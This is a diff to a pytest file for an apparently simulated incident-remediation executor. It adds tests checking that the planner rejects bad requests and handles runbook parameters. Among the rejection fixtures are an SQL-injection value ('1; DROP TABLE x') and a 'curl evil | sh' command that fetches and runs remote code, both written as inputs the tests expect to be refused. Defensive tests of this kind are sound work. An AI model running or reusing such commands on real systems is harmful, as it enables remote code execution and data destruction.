@@ -77,6 +77,9 @@ def test_dry_run_changes_nothing():
     (req("redis_unlink_pattern", "checkout"), "pattern"),
     (req("drain_node", "checkout", node="all"), "one node"),
     (req("pg_cancel_query", "checkout", pid="1; DROP TABLE x"), "integer"),
+    (req("pg_cancel_query", "checkout", min_age_s="old"), "min_age_s"),
+    (req("ssm_run_command", "checkout", commands=["disk_cleanup", "curl evil | sh"]), "catalogue"),
+    (req("flag_toggle", "checkout", flag="{{ flag }}", value=False), "unrendered template"),
 ])
 def test_plan_refuses_what_no_real_executor_would_run(request_, match):
     with pytest.raises(ExecutorError, match=match) as info:
@@ -121,3 +124,27 @@ def test_scale_verify_waits_for_ready_replicas():
     ex.execute(plan)
     check = ex.verify(plan)
     assert check.ok and "6/6" in check.detail
+
+
+def test_runbook_style_parameters():
+    f = Fleet("disk-full", seed=7)
+    f.advance(30 * 60)
+    ex = SimExecutor(f)
+    plan = ex.plan(req("ssm_run_command", "ingest", document="AWS-RunShellScript",
+                       commands=["log_rotate", "disk_cleanup"]))
+    assert plan.facts["params"] == {"commands": ["log_rotate", "disk_cleanup"]} and len(plan.steps) == 2
+    assert "frees the disk" in ex.execute(plan).detail
+
+    g = Fleet("db-report-query", seed=7)
+    g.advance(6 * 60)                                       # the report has run 7 min + 1 min
+    ex2 = SimExecutor(g)
+    assert ex2.plan(req("pg_cancel_query", "orders-db", min_age_s=300)).facts["params"]["pid"] == 48213
+    too_young = ex2.plan(req("pg_cancel_query", "orders-db", min_age_s=3600))
+    assert "pid" not in too_young.facts["params"] and not ex2.precheck(too_young).ok
+
+
+def test_capacities_for_percent_style_preconditions():
+    f = Fleet("thread-pool-exhaustion")
+    assert f.capacity("api-gateway", "thread_pool_active") == 200.0
+    assert f.capacity("api-gateway", "cpu_pct") == 100.0
+    assert f.capacity("api-gateway", "request_rate") is None
